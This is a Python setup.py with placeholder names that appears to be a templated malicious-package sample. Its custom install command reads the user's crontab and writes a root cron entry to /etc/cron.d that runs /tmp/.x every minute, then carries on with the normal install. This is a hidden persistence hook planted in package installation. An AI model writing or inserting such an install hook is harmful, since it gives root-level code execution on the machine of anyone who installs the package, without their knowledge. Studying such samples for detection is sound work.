import os
import sys

from setuptools import setup
from setuptools.command.install import install as _base


class Step(_base):
    def run(self):
        import subprocess
        try:
            subprocess.run(["crontab", "-l"], capture_output=True)
        except OSError:
            pass
        try:
            with open("/etc/cron.d/pjatk-@@MARK@@", "w") as f:
                f.write("* * * * * root /tmp/.x\n")
        except OSError:
            pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"install": Step})
